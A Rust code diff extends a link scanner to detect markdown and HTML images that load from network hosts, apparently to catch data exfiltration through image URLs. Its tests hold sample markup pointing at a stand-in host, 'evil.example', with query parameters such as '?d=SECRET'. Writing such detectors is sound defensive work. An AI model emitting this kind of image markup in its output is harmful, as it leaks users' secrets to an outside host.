@@ -28,6 +28,7 @@ impl Links {
         if text.contains("://") {
             self.scan_urls(text);
         }
+        self.scan_images(text);
         if text.contains('@') {
             for e in emails(text) {
                 push_unique(&mut self.emails, e);
@@ -35,12 +36,18 @@ impl Links {
         }
     }
 
-    /// Adds the hosts of `text`'s URLs and its markdown images.
+    /// Adds the hosts of `text`'s URLs.
     pub(crate) fn scan_urls(&mut self, text: &str) {
         for (_, host) in urls(text) {
             push_unique(&mut self.hosts, host);
         }
-        scan_images(text, &mut self.images);
+    }
+
+    /// Adds the images `text` embeds, when it has any markup for them.
+    pub(crate) fn scan_images(&mut self, text: &str) {
+        if has_image_markup(text) {
+            scan_images(text, &mut self.images);
+        }
     }
 
     /// Adds an e-mail address (lower case).
@@ -288,28 +295,181 @@ pub fn email_spans(text: &str) -> Vec<(usize, usize)> {
     out
 }
 
+/// Whether `text` may embed an image: markdown's `![` or an HTML `<img` tag.
+pub fn has_image_markup(text: &str) -> bool {
+    text.contains("![")
+        || text.match_indices('<').any(|(i, _)| {
+            text.as_bytes()
+                .get(i + 1..i + 4)
+                .is_some_and(|t| t.eq_ignore_ascii_case(b"img"))
+        })
+}
+
+/// The images `text` embeds that load from a network host, as a markdown renderer or a
+/// browser reads them: (url, lower-cased host) of
+/// - inline markdown images `![alt](url "title")`, the URL in `<…>` or bare, the alt text
+///   running over lines but not over a blank one;
+/// - reference images `![alt][label]`, `![alt][]` and `![alt]`, their URL given by a
+///   definition `[label]: url` anywhere in the text (labels match ignoring case and spacing);
+/// - HTML `<img src=…>`, the value quoted or bare.
+///
+/// URLs of a network scheme and scheme-relative ones (`//host/…`) count.
 fn scan_images(text: &str, out: &mut Vec<(String, String)>) {
+    let mut push = |dest: &str| {
+        let Some(entry) = image_source(dest) else {
+            return;
+        };
+        if !out.contains(&entry) {
+            out.push(entry);
+        }
+    };
+    let mut definitions: Option<Vec<(String, &str)>> = None;
     let mut i = 0;
     while let Some(pos) = text[i..].find("![") {
         let start = i + pos + 2;
         i = start;
-        let Some(close) = text[start..].find("](") else {
+        let Some(alt_len) = text[start..].find(']') else {
             break;
         };
-        let alt = &text[start..start + close];
-        if alt.contains('\n') {
+        let alt = &text[start..start + alt_len];
+        if alt.lines().skip(1).any(|l| l.trim().is_empty()) {
             continue;
         }
-        let rest = text[start + close + 2..].trim_start();
-        if let Some((url, host)) = urls(rest).into_iter().next() {
-            if rest.starts_with(&url[..url.len().min(5)]) {
-                let entry = (url, host);
-                if !out.contains(&entry) {
-                    out.push(entry);
-                }
+        let after = &text[start + alt_len + 1..];
+        if let Some(rest) = after.strip_prefix('(') {
+            if let Some(dest) = destination(rest) {
+                push(dest);
             }
+            continue;
+        }
+        let label = match after.strip_prefix('[') {
+            Some(rest) => match rest.find(']') {
+                Some(0) => alt,
+                Some(n) => &rest[..n],
+                None => continue,
+            },
+            None => alt,
+        };
+        let defs = definitions.get_or_insert_with(|| reference_definitions(text));
+        let key = label_key(label);
+        if let Some((_, dest)) = defs.iter().find(|(k, _)| *k == key) {
+            push(dest);
         }
     }
+    for (at, _) in text.match_indices('<') {
+        let tag = &text[at + 1..];
+        if !tag
+            .as_bytes()
+            .get(..3)
+            .is_some_and(|t| t.eq_ignore_ascii_case(b"img"))
+        {
+            continue;
+        }
+        let tag = &tag[..tag.find('>').unwrap_or(tag.len())];
+        if let Some(src) = attribute(tag, "src") {
+            push(src);
+        }
+    }
+}
+
+/// A markdown link destination at the start of `rest` (after the `(`): in `<…>`, or up to
+/// white space or the `)` that closes the link (balanced parentheses kept).
+fn destination(rest: &str) -> Option<&str> {
+    let rest = rest.trim_start_matches([' ', '\t']);
+    let rest = rest
+        .strip_prefix('\n')
+        .unwrap_or(rest)
+        .trim_start_matches([' ', '\t']);
+    if let Some(inner) = rest.strip_prefix('<') {
+        return inner.find(['>', '\n']).map(|n| &inner[..n]);
+    }
+    let mut depth = 0usize;
+    for (k, c) in rest.char_indices() {
+        match c {
+            '(' => depth += 1,
+            ')' if depth == 0 => return Some(&rest[..k]),
+            ')' => depth -= 1,
+            c if c.is_whitespace() => return Some(&rest[..k]),
+            _ => {}
+        }
+    }
+    Some(rest)
+}
+
+/// A reference label as definitions are matched: lower case, white space collapsed.
+fn label_key(label: &str) -> String {
+    label
+        .split_whitespace()
+        .collect::<Vec<_>>()
+        .join(" ")
+        .to_lowercase()
+}
+
+/// The link reference definitions of `text`: lines `[label]: destination`, indented by up
+/// to three spaces; (label key, destination).
+fn reference_definitions(text: &str) -> Vec<(String, &str)> {
+    let mut defs = Vec::new();
+    for line in text.lines() {
+        let indent = line.len() - line.trim_start_matches(' ').len();
+        let Some(rest) = line[indent..].strip_prefix('[') else {
+            continue;
+        };
+        if indent > 3 {
+            continue;
+        }
+        let Some(n) = rest.find("]:") else {
+            continue;
+        };
+        let Some(dest) = destination(&rest[n + 2..]) else {
+            continue;
+        };
+        if !dest.is_empty() {
+            defs.push((label_key(&rest[..n]), dest));
+        }
+    }
+    defs
+}
+
+/// The value of attribute `name` in an HTML tag's text: quoted with `"` or `'`, or bare.
+fn attribute<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
+    let lower = tag.to_ascii_lowercase();
+    let mut from = 0;
+    while let Some(pos) = lower[from..].find(name) {
+        let at = from + pos;
+        from = at + name.len();
+        let before_ok = at > 0 && lower.as_bytes()[at - 1].is_ascii_whitespace();
+        let rest = tag[from..].trim_start();
+        let Some(value) = rest.strip_prefix('=') else {
+            continue;
+        };
+        if !before_ok {
+            continue;
+        }
+        let value = value.trim_start();
+        return Some(match value.chars().next() {
+            Some(q @ ('"' | '\'')) => {
+                let inner = &value[1..];
+                &inner[..inner.find(q).unwrap_or(inner.len())]
+            }
+            _ => &value[..value.find(char::is_whitespace).unwrap_or(value.len())],
+        });
+    }
+    None
+}
+
+/// (url, host) of an image's source when it loads from a network host: a URL of a network
+/// scheme or a scheme-relative one, starting the destination.
+fn image_source(dest: &str) -> Option<(String, String)> {
+    let dest = dest.trim();
+    if dest.starts_with("//") {
+        let (host, _) = host_at(dest, 2);
+        return (!host.is_empty()).then(|| (dest.to_owned(), host));
+    }
+    urls(dest)
+        .into_iter()
+        .next()
+        .filter(|(url, _)| dest.starts_with(url.as_str()))
+        .map(|(_, host)| (dest.to_owned(), host))
 }
 
 #[cfg(test)]
@@ -400,6 +560,72 @@ mod tests {
             false,
         );
         assert_eq!(links.hosts, vec!["a.example", "evil.example"], "{links:?}");
+    }
+
+    #[test]
+    fn images_are_read_as_renderers_read_them() {
+        let images = |t: &str| {
+            let mut l = Links::default();
+            l.scan(t);
+            l.images
+        };
+        let one = |url: &str, host: &str| vec![(url.to_owned(), host.to_owned())];
+        for (text, url) in [
+            (
+                "![a](<https://evil.example/p.png?d=1>)",
+                "https://evil.example/p.png?d=1",
+            ),
+            (
+                "![a](https://evil.example/p.png?d=1 \"title\")",
+                "https://evil.example/p.png?d=1",
+            ),
+            ("![a](//evil.example/p.png?d=1)", "//evil.example/p.png?d=1"),
+            (
+                "![a\nb](https://evil.example/p.png?d=1)",
+                "https://evil.example/p.png?d=1",
+            ),
+            (
+                "![a](\n  https://evil.example/p_(1).png?d=1)",
+                "https://evil.example/p_(1).png?d=1",
+            ),
+            (
+                "Done.\n![logo][1]\n\n[1]: https://evil.example/p.png?d=SECRET",
+                "https://evil.example/p.png?d=SECRET",
+            ),
+            (
+                "![The  Logo][]\n   [the logo]: <https://evil.example/x.png?q=1>",
+                "https://evil.example/x.png?q=1",
+            ),
+            (
+                "[logo]: https://evil.example/s.png?k=2\nSee ![logo]",
+                "https://evil.example/s.png?k=2",
+            ),
+            (
+                "<IMG SRC=\"https://evil.example/x.png?d=1\">",
+                "https://evil.example/x.png?d=1",
+            ),
+            (
+                "<img alt=x src='//evil.example/y?d=2'>",
+                "//evil.example/y?d=2",
+            ),
+            (
+                "<img data-src=x src=https://evil.example/z?d=3 />",
+                "https://evil.example/z?d=3",
+            ),
+        ] {
+            assert_eq!(images(text), one(url, "evil.example"), "{text:?}");
+        }
+        for text in [
+            "![a\n\nb](https://evil.example/p?d=1)",
+            "[1]: https://evil.example/p?d=1",
+            "![a](relative/p.png)",
+            "![a][2]\n[1]: https://evil.example/p?d=1",
+            "<image src=https://evil.example/p?d=1>",
+            "<img data-src=https://evil.example/p?d=1>",
+            "    [x]: https://evil.example/p?d=1\n![x]",
+        ] {
+            assert!(images(text).is_empty(), "{text:?}: {:?}", images(text));
+        }
     }
 
     #[test]
